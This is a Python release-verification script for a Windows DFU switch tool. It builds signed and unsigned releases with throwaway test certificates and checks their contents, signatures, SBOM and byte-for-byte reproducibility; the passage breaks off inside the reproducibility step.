#!/usr/bin/python3
"""Checks what Windows users download, as scripts/release.sh makes it,
unsigned and signed with a throwaway certificate.

    check_release.py build --source DIR --work DIR
        copies the sources (what git tracks or would track) to "WORK/the checkout",
        checks their release/environment.lock offline and makes it anew
        there (release/environment.sh lock: the archive's versions of today,
        so that the releases below can be made whatever the archive has
        dropped since the lock was committed), says which lock that is, and
        commits them there, dated as the last commit, after a history
        of older commits of them (one whose packer predates the repack
        interface, one of the same files, one on a side branch) and with
        an annotated tag; unpacks the release environment into WORK/root
        (release/environment.sh) and builds the commit's release preset
        there, in WORK/built, as a release is built; makes a throwaway
        CA and code-signing certificate (its key under a passphrase) in
        WORK/keys and runs scripts/release.sh there three times: as it is
        (dist/ kept as WORK/unsigned), with --sign (WORK/signed), and with
        --sign and the certificates of a PFX of the CA's whole path, root
        and all (WORK/pfx), where neither cmake nor osslsigncode may find
        the passphrase in its environment;
        a SOURCE_DATE_EPOCH other than the commit's is refused, and so is a
        commit whose lock names a version no archive has, with the way on
    check_release.py package --work DIR --contents FILE
        each dist holds the ZIP, SHA256SUMS and the unpacked folder and
        nothing else; the ZIP holds exactly both programs, USER_GUIDE.txt
        (the guide with FILE's version and ids for its placeholders, none
        written by hand, and CRLF line ends), BUILDINFO.txt,
        THIRD_PARTY_NOTICES.txt (CRLF) and the SBOM, under one top folder,
        dated by the commit; each program's version resource carries the
        copyright line; the signed programs verify against the
        throwaway CA, the unsigned carry no signature; no key in any file;
        release.sh names the PFX's root as left out of the signatures
    check_release.py reproducible --work DIR --contents FILE
        the released programs, without their signatures, are byte for byte
        those of WORK/built and, where this machine's toolchain packages
        are the release environment's versions, those FILE lists (the ones
        this build tested); and packing WORK/built's again elsewhere, in
        another time zone, signed or not, in the release environment, gives
        the same ZIP and SHA256SUMS
    check_release.py verify --work DIR
        in a fresh clone of the checkout, scripts/verify-release.sh accepts
        both releases and judges ZIPs naming other commits of the history
        (an older one's release with its guide rewritten, one older than
        the repack interface, one off HEAD's history, a tag, an unknown
        commit), whatever the clone and the caller plant: an untracked
        header that breaks the build, an info/attributes file and a global
        one that leave files out of an export, a replace ref for the guide,
        a cmake, python3 and git of their own first in PATH, GIT_DIR,
        SOURCE_COMMIT and SOURCE_DATE_EPOCH; as root, it cannot check
        where /tmp is unsafe or read-only, or what it needs cannot be
        installed (no network, no sudo)
    check_release.py hostile --work DIR
        in the release environment, the release check (release/verify.py,
        against the programs of WORK/built) rejects each ZIP of hostile_releases.CASES with the
        message it names, and every one of a seeded run of mutants of the
        genuine ZIPs, never with a traceback or a control character
    check_release.py sbom --work DIR --node-modules DIR
        each release's SBOM is valid CycloneDX 1.5 to three consumers (from
        DIR, which scripts/install-deps.sh --tests fills): the CycloneDX
        library's strict validator, Ajv with the 1.5 schema, packageurl-js
        giving back each purl unchanged; it names exactly the ZIP's programs
        with the SHA-256 of the ZIP's bytes of each, the Debian packages of
        the build with BUILDINFO.txt's versions, a supplier for every
        component, arch, distro and source package in every deb purl, a
        definition of every LicenseRef, every DLL each program imports or
        delay-loads among its dependencies, and that the programs' contents
        are complete; copies weakened in one point (SBOM_WEAKENED) must each
        fail that check with their own reason

    check_release.py committed-lock --source DIR --work DIR
        the lock as committed in DIR, where it names other packages than
        the one the releases were made with: its release environment is
        unpacked (from the cache, or made from the archive) and the
        commit's release preset built there; the programs must be those of
        WORK/built where the toolchain packages' versions agree

Exit status 0 when the step succeeds, 1 otherwise; committed-lock exits
with 77 (skipped) when that lock's environment can be neither taken from
the cache nor made from the archive.
"""
import argparse
import filecmp
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from typing import Any, NoReturn

import pefile

PROGRAM_NAMES = ["BRELVIK_DFU_PIPE.exe", "BRELVIK_DFU_WINUSB.exe"]
GUIDE_NAME = "USER_GUIDE.txt"
RELEASE_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PACK = os.path.join(RELEASE_DIR, "pack.py")
ENVIRONMENT = os.path.join(RELEASE_DIR, "environment.sh")
# Under WORK: the release environment, unpacked, and a build of the commit
# made in it; the same of the committed lock.
ROOT, BUILT = "root", "built"
COMMITTED_ROOT, COMMITTED_BUILT = "committed root", "committed built"
# CTest's SKIP_RETURN_CODE for the committed-lock step.
SKIPPED = 77
# A version of Debian's tar that no archive has.
UNAVAILABLE_TAR = "0.1-never"
# Set in the release environment by the steps that run there.
IN_ENVIRONMENT = "BRELVIK_IN_RELEASE_ENVIRONMENT"
sys.path.insert(0, RELEASE_DIR)
sys.dont_write_bytecode = True  # nothing written into the source tree
# The release's own reading of the contents file and BUILDINFO.txt.
from buildinfo import (BUILDINFO_NAME, SIGNER_PACKAGE, TOOLCHAIN_PACKAGES,  # noqa: E402
                       read_buildinfo, read_contents)
from notices import NOTICES_NAME  # noqa: E402
from check_pe import version_strings  # noqa: E402
import version as versions  # noqa: E402
from pack import guide_problems, guide_values, pack_zip  # noqa: E402
import hostile_releases  # noqa: E402

COPYRIGHT = "Copyright (c) 2026 The BRELVIK DFU switch authors"
VALIDATE_SBOM = os.path.join(os.path.dirname(os.path.abspath(__file__)), "validate_sbom.js")

SIGNER_SUBJECT = "/O=Throwaway Test Signer/CN=BRELVIK release test"
# Quotes, a space and a dollar: it reaches osslsigncode intact or not at all.
PASSPHRASE = "throwaway 'pass' phrase; $HOME"
PASSPHRASE_VARIABLE = "BRELVIK_SIGN_PASSPHRASE"
# In front of PATH for both releases: the release's build and signing use
# the system's tools alone, so none of these may run. The caller's flags
# and a stale build folder of the checkout must not reach the programs
# either (the reproducible step compares them with the ones tested).
SHIM = """#!/bin/sh
touch "$0.ran"
exit 97
"""
CALLER_FLAGS = {"CXXFLAGS": "-O0 -g -DBRELVIK_CALLER_FLAGS", "LDFLAGS": "-Wl,--no-gc-sections"}
# Root, intermediate and signer; scripts/release.sh gets the signer's
# certificate followed by the intermediate, as a CA issues them.
CERTIFICATES = [
    ("ca", None, "/CN=Throwaway Test Root",
     "basicConstraints=critical,CA:TRUE\nkeyUsage=critical,keyCertSign,cRLSign\n"),
    ("intermediate", "ca", "/CN=Throwaway Test Intermediate",
     "basicConstraints=critical,CA:TRUE,pathlen:0\nkeyUsage=critical,keyCertSign,cRLSign\n"),
    ("signer", "intermediate", SIGNER_SUBJECT,
     "basicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature\n"
     "extendedKeyUsage=codeSigning\n"),
]


# The checkout the releases are made in, and the clone they are checked
# in: paths with a space, which both scripts must take.
CHECKOUT, CLONE = "the checkout", "a clone"


def fail(message: str) -> NoReturn:
    print(f"FAILED: {message}")
    sys.exit(1)


def git(source: str, *args: str) -> bytes:
    return subprocess.run(["git", "-C", source, *args], check=True, stdout=subprocess.PIPE).stdout


def recorded(work: str, name: str) -> str:
    with open(os.path.join(work, name), encoding="ascii") as text:
        return text.read()


def keys(work: str, name: str) -> str:
    return os.path.join(work, "keys", name)


def releases(work: str) -> dict[str, tuple[str, list[str]]]:
    """Each release scripts/release.sh made: its dist/ and its options
    (with --sign, BRELVIK_SIGN_PASSPHRASE must be set too)."""
    return {"unsigned": (os.path.join(work, "unsigned"), []),
            "signed": (os.path.join(work, "signed"),
                       ["--sign", keys(work, "chain.pem"), keys(work, "signer.key")]),
            # Its certificates as docs/releasing.md takes them from a PFX
            # exported with its whole certification path, the root among them.
            "pfx": (os.path.join(work, "pfx"), ["--sign", keys(work, "pfx.pem"), keys(work, "signer.key")])}


def run(command: list[str], **kwargs: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT, text=True, errors="replace", **kwargs)


def in_environment(work: str, command: list[str], folder: str = "/", root: str = ROOT,
                   **variables: str) -> list[str]:
    """COMMAND as it runs in the release environment unpacked in WORK/ROOT,
    seeing these sources (read only) and WORK, with no more environment
    than VARIABLES."""
    source = os.path.dirname(RELEASE_DIR)
    return [ENVIRONMENT, "run", os.path.join(work, root), "--cd", folder, "--bind-ro", source, "--bind", work, "--",
            "env", "-i", "PATH=/usr/bin:/bin", f"HOME={os.path.join(work, 'home')}", "LANG=C.UTF-8",
            *(f"{name}={value}" for name, value in variables.items()), *command]


def built_contents(work: str) -> str:
    return os.path.join(work, BUILT, "build", "release", "release_contents.txt")


def committed_lock_of(source: str) -> str:
    return os.path.join(source, "release", "environment.lock")


def tested_lock(work: str) -> str:
    """The lock the releases are made with: the checkout's, made anew."""
    return os.path.join(work, CHECKOUT, "release", "environment.lock")


def locked_versions(path: str) -> dict[str, str]:
    with open(path, encoding="ascii") as lock:
        return {line.split()[1]: line.split()[2] for line in lock if line.startswith("package ")}


def make_lock(work: str, checkout: str, committed_lock: str) -> None:
    """The checkout's lock made anew from the archive as it is now, after
    the committed one is checked for what needs no archive; says which
    lock the releases are made with."""
    result = run([ENVIRONMENT, "check", "--lock", committed_lock])
    print(result.stdout, end="")
    if result.returncode != 0:
        fail("the committed release/environment.lock is not a lock release/environment.sh writes")
    start = time.monotonic()
    environment = os.path.join(checkout, "release", "environment.sh")
    result = run([environment, "lock"])
    print(result.stdout, end="")
    if result.returncode != 0:
        fail(f"release/environment.sh lock exited with {result.returncode}")
    result = run([environment, "check"])
    if result.returncode != 0:
        fail(f"the lock release/environment.sh lock made is not one it reads:\n{result.stdout}")
    committed, fresh = locked_versions(committed_lock), locked_versions(tested_lock(work))
    changed = [f"{name} {committed.get(name, 'none')} -> {fresh.get(name, 'none')}"
               for name in sorted(set(committed) | set(fresh)) if committed.get(name) != fresh.get(name)]
    print(f"the releases are made with the lock of today's archive, in {time.monotonic() - start:.1f} s:"
          f" {result.stdout.strip()}; {len(changed)} of its packages differ from the committed lock's"
          f"{': ' if changed else ''}{', '.join(changed)}")


def build_in_environment(work: str, checkout: str, commit: str, version: str, lock: str | None = None,
                         root: str = ROOT, built_in: str = BUILT) -> int:
    """The commit's release preset built in the release environment of
    LOCK (the checkout's by default), unpacked in WORK/ROOT, as release.sh
    builds it, in WORK/BUILT_IN; the exit status of
    release/environment.sh unpack when that fails with 3 (versions the
    archive lacks)."""
    start = time.monotonic()
    result = run([os.path.join(checkout, "release", "environment.sh"), "unpack",
                  *(["--lock", lock] if lock else []), os.path.join(work, root)])
    print(result.stdout, end="")
    if result.returncode == 3:
        return result.returncode
    if result.returncode != 0:
        fail(f"release/environment.sh unpack exited with {result.returncode}")
    built = os.path.join(work, built_in)
    os.makedirs(os.path.join(work, "home"), exist_ok=True)
    os.makedirs(built)
    archive = subprocess.run(["git", "-C", checkout, "archive", "--format=tar", commit], check=True,
                             stdout=subprocess.PIPE).stdout
    subprocess.run(["tar", "-x", "-C", built], input=archive, check=True)
    for step in (["cmake", "--preset", "release", f"-DBRELVIK_VERSION={version}"],
                 ["cmake", "--build", "--preset", "release", "--parallel", str(os.cpu_count() or 1)]):
        result = run(in_environment(work, step, built, root))
        if result.returncode != 0:
            fail(f"{' '.join(step)} in the release environment:\n{result.stdout}")
    print(f"the release environment unpacked and commit {commit} built there in {time.monotonic() - start:.1f} s")
    return 0


def make_certificates(work: str) -> None:
    os.makedirs(os.path.join(work, "keys"))
    for serial, (name, issuer, subject, extensions) in enumerate(CERTIFICATES, start=1):
        key, cert = keys(work, f"{name}.key"), keys(work, f"{name}.pem")
        # RSA: an ECDSA signature differs on every run.
        request = ["openssl", "req", "-newkey", "rsa:2048", "-keyout", key, "-subj", subject]
        request += ["-passout", f"pass:{PASSPHRASE}"] if name == "signer" else ["-nodes"]
        if issuer is None:
            steps = [request + ["-x509", "-days", "2", "-set_serial", str(serial), "-out", cert]
                     + [arg for line in extensions.splitlines() for arg in ("-addext", line)]]
        else:
            with open(keys(work, f"{name}.ext"), "w", encoding="ascii") as text:
                text.write(extensions)
            steps = [request + ["-out", keys(work, f"{name}.csr")],
                     ["openssl", "x509", "-req", "-in", keys(work, f"{name}.csr"), "-days", "2",
                      "-CA", keys(work, f"{issuer}.pem"), "-CAkey", keys(work, f"{issuer}.key"),
                      "-set_serial", str(serial), "-extfile", keys(work, f"{name}.ext"), "-out", cert]]
        for step in steps:
            result = run(step)
            if result.returncode != 0:
                fail(f"{' '.join(step)}:\n{result.stdout}")
    with open(keys(work, "chain.pem"), "wb") as chain:
        for name in ["signer", "intermediate"]:
            with open(keys(work, f"{name}.pem"), "rb") as pem:
                chain.write(pem.read())
    from_pfx(work)


def from_pfx(work: str) -> None:
    """keys/pfx.pem: the certificates of a PFX of the signer's key and its
    whole certification path, as docs/releasing.md's commands take them out."""
    with open(keys(work, "path.pem"), "wb") as path:
        for name in ["intermediate", "ca"]:
            with open(keys(work, f"{name}.pem"), "rb") as pem:
                path.write(pem.read())
    pfx = keys(work, "signer.pfx")
    with open(keys(work, "pfx.pem"), "wb") as out:
        for step in (["openssl", "pkcs12", "-export", "-in", keys(work, "signer.pem"),
                      "-inkey", keys(work, "signer.key"), "-certfile", keys(work, "path.pem"),
                      "-passin", f"pass:{PASSPHRASE}", "-passout", "pass:pfx", "-out", pfx],
                     ["openssl", "pkcs12", "-in", pfx, "-clcerts", "-nokeys", "-passin", "pass:pfx"],
                     ["openssl", "pkcs12", "-in", pfx, "-cacerts", "-nokeys", "-passin", "pass:pfx"]):
            result = subprocess.run(step, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            if result.returncode != 0:
                fail(f"{' '.join(step)}:\n{result.stderr.decode(errors='replace')}")
            out.write(result.stdout)
    with open(keys(work, "pfx.pem"), "rb") as written:
        if written.read().count(b"-----BEGIN CERTIFICATE-----") != 3:
            fail(f"{keys(work, 'pfx.pem')} does not hold the signer's, the intermediate's and the root's certificates")


def build(args: argparse.Namespace) -> None:
    checkout = os.path.join(args.work, CHECKOUT)
    shutil.rmtree(args.work, ignore_errors=True)
    os.makedirs(checkout)
    listed = git(args.source, "ls-files", "-z", "--cached", "--others", "--exclude-standard")
    copied = 0
    for name in listed.decode("utf-8").split("\0"):
        path = os.path.join(args.source, name)
        if not name or not os.path.isfile(path):
            continue
        os.makedirs(os.path.dirname(os.path.join(checkout, name)), exist_ok=True)
        shutil.copy2(path, os.path.join(checkout, name))
        copied += 1
    make_lock(args.work, checkout, committed_lock_of(args.source))
    epoch = git(args.source, "log", "-1", "--format=%ct").decode("ascii").strip()
    # scripts/verify-release.sh checks a commit, and the sources tested may
    # hold changes not committed yet: a commit of exactly these files.
    date = f"@{epoch} +0000"
    commit_env = dict(os.environ, GIT_CONFIG_GLOBAL=os.devnull, GIT_CONFIG_NOSYSTEM="1",
                      GIT_AUTHOR_NAME="release test", GIT_AUTHOR_EMAIL="release-test@invalid",
                      GIT_COMMITTER_NAME="release test", GIT_COMMITTER_EMAIL="release-test@invalid",
                      GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=date)
    packer = os.path.join(checkout, "release", "pack.py")
    with open(packer, "rb") as source:
        current = source.read()

    def make_commit(message: str, seconds: int, *options: str) -> str:
        date = f"@{int(epoch) - seconds} +0000"
        for command in (["add", "-A"], ["commit", "-q", "--allow-empty", "-m", message, *options]):
            subprocess.run(["git", "-C", checkout, *command], check=True, stdout=subprocess.DEVNULL,
                           env=dict(commit_env, GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=date))
        return git(checkout, "rev-parse", "HEAD").decode("ascii").strip()

    # History for the release check to judge: a release of any commit but
    # HEAD is dated by that commit.
    subprocess.run(["git", "-C", checkout, "init", "-q", "-b", "main"], check=True, stdout=subprocess.DEVNULL)
    with open(packer, "wb") as out:
        out.write(re.sub(rb"(?m)^REPACK_INTERFACE = .*\n", b"", current))
    history = {"before_repack": make_commit(
        "A packer without the repack interface\n\nFrom here on release/environment.lock is the archive's of today,"
        " made by release/environment.sh lock: the committed lock's versions may be gone from it.", 300)}
    with open(packer, "wb") as out:
        out.write(current)
    history["older"] = make_commit("The sources tested, an older commit", 200)
    subprocess.run(["git", "-C", checkout, "checkout", "-q", "-b", "side"], check=True)
    history["side"] = make_commit("A commit off main", 100)
    subprocess.run(["git", "-C", checkout, "checkout", "-q", "main"], check=True)
    # A commit whose release environment the archive cannot give: a version
    # no archive has.
    lock = os.path.join(checkout, "release", "environment.lock")
    with open(lock, encoding="ascii") as text:
        locked = text.read()
    with open(lock, "w", encoding="ascii") as text:
        text.write(re.sub(r"(?m)^package tar .*$", f"package tar {UNAVAILABLE_TAR}", locked))
    history["unavailable_lock"] = make_commit("A lock naming a version no archive has", 50)
    with open(lock, "w", encoding="ascii") as text:
        text.write(locked)
    # The commit tested is the release of the version its CMakeLists.txt gives; those before are not.
    with open(os.path.join(checkout, "CMakeLists.txt"), "rb") as source:
        tested_version = versions.version_in(source.read())
    commit_id = make_commit(f"The sources tested, released\n\n{versions.RELEASE_TRAILER}: {tested_version}", 0)
    subprocess.run(["git", "-C", checkout, "tag", "-a", "-m", "Tested", "tested"], env=commit_env, check=True)
    history["tag"] = git(checkout, "rev-parse", "tested").decode("ascii").strip()
    for name in ["older", "before_repack", "side", "unavailable_lock"]:
        history[f"{name}_epoch"] = git(checkout, "log", "-1", "--format=%ct", history[name]).decode("ascii").strip()
    for name, value in [("epoch", epoch), ("commit", commit_id), *history.items()]:
        with open(os.path.join(args.work, name), "w", encoding="ascii") as text:
            text.write(value)
    print(f"{copied} files copied to {checkout} and committed as {commit_id} (after {history});"
          f" SOURCE_DATE_EPOCH={epoch}")
    released = tested_version or fail("CMakeLists.txt gives no version")
    with open(os.path.join(args.work, "version"), "w", encoding="ascii") as text:
        text.write(released)
    if build_in_environment(args.work, checkout, commit_id, released) != 0:
        fail("the release environment of the lock just made cannot be made from the archive")
    start = time.monotonic()
    make_certificates(args.work)
    print(f"throwaway CA and code-signing certificate made in {time.monotonic() - start:.1f} s")
    shims = os.path.join(args.work, "shims")
    os.makedirs(shims)
    for name in ["cmake", "osslsigncode"]:
        with open(os.path.join(shims, name), "w", encoding="ascii") as shim:
            shim.write(SHIM)
        os.chmod(os.path.join(shims, name), 0o755)

    refused(checkout)
    stale = os.path.join(checkout, "build", "release")
    os.makedirs(stale)
    with open(os.path.join(stale, "CMakeCache.txt"), "w", encoding="ascii") as cache:
        cache.write(f"CMAKE_CXX_FLAGS:STRING={CALLER_FLAGS['CXXFLAGS']}\n")
    for kind, (dist, options) in releases(args.work).items():
        log_path = os.path.join(args.work, f"release-{kind}.log")
        env = dict(os.environ, SOURCE_DATE_EPOCH=epoch, PATH=f"{shims}:{os.environ['PATH']}", **CALLER_FLAGS)
        if options:
            env[PASSPHRASE_VARIABLE] = PASSPHRASE
            # Its scratch folder, and so the build's, in a path with a space.
            env["TMPDIR"] = os.path.join(args.work, "temporary files")
            os.makedirs(env["TMPDIR"], exist_ok=True)
        start = time.monotonic()
        with open(log_path, "wb") as log:
            status = subprocess.run([os.path.join(checkout, "scripts", "release.sh"), *options], env=env,
                                    stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT).returncode
        with open(log_path, encoding="utf-8", errors="replace") as written:
            print(written.read())
        if status != 0:
            fail(f"scripts/release.sh {' '.join(options)} exited with {status}")
        ran = [name[:-4] for name in os.listdir(shims) if name.endswith(".ran")]
        if ran:
            fail(f"scripts/release.sh {' '.join(options)} ran the caller's {', '.join(ran)}")
        os.rename(os.path.join(checkout, "dist"), dist)
        print(f"{' '.join(['scripts/release.sh'] + options)} took {time.monotonic() - start:.1f} s;"
              f" dist/ kept as {dist}")
    result = run([os.path.join(checkout, "scripts", "release.sh")],
                 env=dict(os.environ, SOURCE_DATE_EPOCH=str(int(epoch) - 1)))
    if result.returncode != 1 or "a release is dated by its commit alone" not in result.stdout:
        fail(f"scripts/release.sh with SOURCE_DATE_EPOCH={int(epoch) - 1}, not the commit's {epoch}, exited"
             f" with {result.returncode}:\n{result.stdout}")
    print(f"scripts/release.sh refuses a SOURCE_DATE_EPOCH other than the commit's: {result.stdout.strip()}")
    # A commit that says it is a release the history says it is not (the
    # same version released again): refused, in a clone of its own.
    again = os.path.join(args.work, "released again")
    git(checkout, "clone", "-q", "--no-hardlinks", ".", again)
    subprocess.run(["git", "-C", again, "commit", "-q", "--allow-empty", "-m", "Again", "--trailer",
                    f"{versions.RELEASE_TRAILER}: {tested_version}"], check=True, env=commit_env)
    result = run([os.path.join(again, "scripts", "release.sh")])
    if result.returncode != 1 or f"says it is release {tested_version}, but by the history it is" not in result.stdout:
        fail(f"scripts/release.sh on a commit released again exited with {result.returncode}:\n{result.stdout}")
    print(f"scripts/release.sh refuses a commit released again: {result.stdout.strip().splitlines()[-1]}")
    stale_lock(args.work, checkout, history["unavailable_lock"])


def stale_lock(work: str, checkout: str, commit: str) -> None:
    """release.sh on a commit whose lock names a version no archive has:
    no ZIP, no traceback, exit status 1, and the way on for a releaser."""
    stale = os.path.join(work, "stale lock")
    git(checkout, "clone", "-q", "--no-hardlinks", ".", stale)
    git(stale, "checkout", "-q", commit)
    env = {name: value for name, value in os.environ.items() if name != "SOURCE_DATE_EPOCH"}
    result = run([os.path.join(stale, "scripts", "release.sh")], env=env)
    print(f"scripts/release.sh on a lock naming a version no archive has: exit status {result.returncode}\n"
          f"{result.stdout}", end="")
    said = ["cannot get tar " + UNAVAILABLE_TAR, "release/environment.sh lock", "commit"]
    if result.returncode != 1 or not all(line in result.stdout for line in said) or "Traceback" in result.stdout \
            or os.path.exists(os.path.join(stale, "dist")):
        fail(f"scripts/release.sh on a stale lock: expected exit status 1, no dist/, no traceback and lines with"
             f" {said}")
    shutil.rmtree(stale)


def refused(checkout: str) -> None:
    """release.sh refuses a tree that is not its commit: an untracked file,
    a changed one, and makes no dist/."""
    guide = os.path.join(checkout, "docs", "USER_GUIDE.md")
    with open(guide, "rb") as source:
        kept = source.read()
    untracked = os.path.join(checkout, "protocol", "extra.h")

    def add_untracked() -> None:
        with open(untracked, "w", encoding="ascii") as out:
            out.write("#error not committed\n")

    def change_tracked() -> None:
        with open(guide, "ab") as out:
            out.write(b"A line not committed.\n")

    # What makes the tree not its commit, and what undoes it.
    changes: list[tuple[str, Callable[[], None], Callable[[], object]]] = [
        ("an untracked file", add_untracked, lambda: os.remove(untracked)),
        ("a changed file", change_tracked, lambda: open(guide, "wb").write(kept))]
    for name, make, undo in changes:
        make()
        result = run([os.path.join(checkout, "scripts", "release.sh")])
        undo()
        if result.returncode != 1 or "changed or untracked files" not in result.stdout or \
                os.path.exists(os.path.join(checkout, "dist")):
            fail(f"scripts/release.sh on a tree with {name} exited with {result.returncode}:\n{result.stdout}")
        print(f"scripts/release.sh refuses a tree with {name}: {result.stdout.strip().splitlines()[-1]}")


def is_signed(path: str) -> bool:
    security = pefile.DIRECTORY_ENTRY["IMAGE_DIRECTORY_ENTRY_SECURITY"]
    size: int = pefile.PE(path, fast_load=True).OPTIONAL_HEADER.DATA_DIRECTORY[security].Size
    return size != 0


def check_buildinfo(work: str, data: bytes, signed: bool) -> None:
    try:
        info = read_buildinfo(data)
    except ValueError as error:
        fail(f"{BUILDINFO_NAME} is not what the release check accepts ({error}): {data!r}")
    packages = TOOLCHAIN_PACKAGES + ([SIGNER_PACKAGE] if signed else [])
    wanted = ["commit", "version", "SOURCE_DATE_EPOCH"] + packages
    if list(info) != wanted or not all(info.values()):
        fail(f"{BUILDINFO_NAME} says {info}, expected a value for each of {wanted}")
    if info["commit"] != recorded(work, "commit") or info["SOURCE_DATE_EPOCH"] != recorded(work, "epoch"):
        fail(f"{BUILDINFO_NAME} names commit {info['commit']} of {info['SOURCE_DATE_EPOCH']}")


def check_signatures(work: str, kind: str, programs: list[str]) -> None:
    for path in programs:
        if kind == "unsigned":
            if is_signed(path):
                fail(f"{path} is signed")
            continue
        result = run(["osslsigncode", "verify", "-CAfile", keys(work, "ca.pem"), "-in", path])
        if result.returncode != 0 or f"Subject: {SIGNER_SUBJECT}" not in result.stdout:
            fail(f"{path} does not verify against the throwaway CA as signed by {SIGNER_SUBJECT}:\n"
                 f"{result.stdout}")
        print(f"{path}: verifies against the throwaway CA, signed by {SIGNER_SUBJECT}")


def check_no_key(work: str, dist: str) -> None:
    with open(keys(work, "signer.key"), "rb") as key:
        body = [line for line in key.read().splitlines() if line and not line.startswith(b"-----")]
    searched = [os.path.join(work, name) for name in os.listdir(work) if name.endswith(".log")]
    for folder, _, names in os.walk(dist):
        searched += [os.path.join(folder, name) for name in names]
    for path in searched:
        with open(path, "rb") as data:
            text = data.read()
        if b"PRIVATE KEY" in text or any(line in text for line in body):
            fail(f"{path} holds a private key")
        if PASSPHRASE.encode("utf-8") in text:
            fail(f"{path} holds the key's passphrase")


def package(args: argparse.Namespace) -> None:
    checkout = os.path.join(args.work, CHECKOUT)
    contents = read_contents(args.contents)
    top = f"{contents['name']}-{contents['version']}"
    zip_name = f"{top}-win64.zip"
    expected = sorted(PROGRAM_NAMES + [GUIDE_NAME, BUILDINFO_NAME, NOTICES_NAME, f"{top}.cdx.json"])
    made = time.gmtime(int(recorded(args.work, "epoch")))
    # A ZIP entry's time counts seconds in twos.
    date = (made.tm_year, made.tm_mon, made.tm_mday, made.tm_hour, made.tm_min, made.tm_sec - made.tm_sec % 2)
    version = contents["version"].encode("ascii")
    with open(os.path.join(checkout, "docs", "USER_GUIDE.md"), "rb") as source:
        written = source.read().replace(b"\r\n", b"\n")
    # The version and the adapter's ids are the build's alone: a copy in the
    # guide would go stale.
    problems = guide_problems(written, contents)
    if problems:
        fail("docs/USER_GUIDE.md " + "; ".join(problems))
    for placeholder, value in guide_values(contents).items():
        written = written.replace(placeholder, value.encode("ascii"))
    for named in re.findall(rb"BRELVIK_DFU_SWITCH-([^\s`\\/]*)", written):
        named = named.rstrip(b".,;:)'\"")
        if not (named == version or named.startswith((version + b"-win64", version + b".cdx.json", b"<version>"))):
            fail(f"the shipped guide names the release BRELVIK_DFU_SWITCH-{named.decode()}, not {contents['version']}")

    # The PFX's root is left out of the signatures, and release.sh says so.
    logged = recorded(args.work, "release-pfx.log")
    if not re.search(r"(?m)^pack: CN=Throwaway Test Root of /\S*/pfx\.pem left out of the signatures: ", logged):
        fail("scripts/release.sh --sign with a PFX's whole certification path does not say it left the root out")
    for kind, (dist, _) in releases(args.work).items():
        print(f"== {kind} release, {dist}")
        if sorted(os.listdir(dist)) != sorted([zip_name, "SHA256SUMS", top]):
            fail(f"dist holds {sorted(os.listdir(dist))}")
        if sorted(os.listdir(os.path.join(dist, top))) != expected:
            fail(f"dist/{top} holds {sorted(os.listdir(os.path.join(dist, top)))}")

        with open(os.path.join(dist, "SHA256SUMS"), encoding="ascii") as sums:
            summed = [line.rstrip("\n").split("  ", 1)[1] for line in sums]
        if summed != [zip_name] + [f"{top}/{name}" for name in PROGRAM_NAMES]:
            fail(f"SHA256SUMS names {summed}")
        check = run(["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=dist)
        print(check.stdout, end="")
        if check.returncode != 0:
            fail("sha256sum -c SHA256SUMS")

        with zipfile.ZipFile(os.path.join(dist, zip_name)) as archive:
            if archive.testzip() is not None:
                fail(f"{zip_name} has a bad entry {archive.testzip()}")
            entries = archive.infolist()
            names = [entry.filename for entry in entries]
            if names != [f"{top}/{name}" for name in expected]:
                fail(f"{zip_name} holds {names}")
            for entry in entries:
                if entry.date_time != date or entry.external_attr >> 16 != 0o100644:
                    fail(f"{entry.filename}: date {entry.date_time}, mode {oct(entry.external_attr >> 16)};"
                         f" expected {date}, 0o100644")
                unpacked = os.path.join(dist, entry.filename)
                with open(unpacked, "rb") as data:
                    if archive.read(entry) != data.read():
                        fail(f"{entry.filename} differs from dist/{entry.filename}")
            guide = archive.read(f"{top}/{GUIDE_NAME}")
            notices = archive.read(f"{top}/{NOTICES_NAME}")
            check_buildinfo(args.work, archive.read(f"{top}/{BUILDINFO_NAME}"), kind != "unsigned")
        if guide.replace(b"\r\n", b"\n") != written or b"\n" in guide.replace(b"\r\n", b""):
            fail(f"{GUIDE_NAME} is not docs/USER_GUIDE.md with the version and ids filled in and CRLF line ends")
        if b"\n" in notices.replace(b"\r\n", b"") or not notices.isascii():
            fail(f"{NOTICES_NAME} is not ASCII with CRLF line ends")
        for name in PROGRAM_NAMES:
            found = version_strings(pefile.PE(os.path.join(dist, top, name))).get("LegalCopyright")
            if found != COPYRIGHT:
                fail(f"{name}'s version resource has LegalCopyright {found!r}, not {COPYRIGHT!r}")
        check_signatures(args.work, kind, [os.path.join(dist, top, name) for name in PROGRAM_NAMES])
        check_no_key(args.work, dist)
        print(f"{zip_name}: {', '.join(names)}, dated {time.strftime('%Y-%m-%d %H:%M:%S', date + (0, 0, 0))}")


def unsigned_bytes(path: str, scratch: str) -> bytes:
    if not is_signed(path):
        with open(path, "rb") as data:
            return data.read()
    stripped = os.path.join(scratch, "stripped-" + os.path.basename(path))
    if os.path.exists(stripped):
        os.remove(stripped)
    result = run(["osslsigncode", "remove-signature", "-in", path, "-out", stripped])
    if result.returncode != 0:
        fail(f"osslsigncode remove-signature -in {path}:\n{result.stdout}")
    with open(stripped, "rb") as data:
        return data.read()


def reproducible(args: argparse.Namespace) -> None:
    contents = read_contents(built_contents(args.work))
    top = f"{contents['name']}-{contents['version']}"
    # The programs tested here are the release's only where this machine
    # builds with the release environment's toolchain.
    locked = locked_versions(tested_lock(args.work))
    mine = {package: run(["dpkg-query", "-W", "-f=${Version}", package]).stdout for package in TOOLCHAIN_PACKAGES}
    other = [f"{package} {mine[package] or 'none'} (the release environment: {locked.get(package)})"
             for package in TOOLCHAIN_PACKAGES if mine[package] != locked.get(package)]
    tested = [] if other else read_contents(args.contents)["program"]
    if other:
        print(f"the programs tested here are not compared with the release's: this machine builds with {'; '.join(other)}")
    for kind, (dist, options) in releases(args.work).items():
        scratch = os.path.join(args.work, f"repack-{kind}")
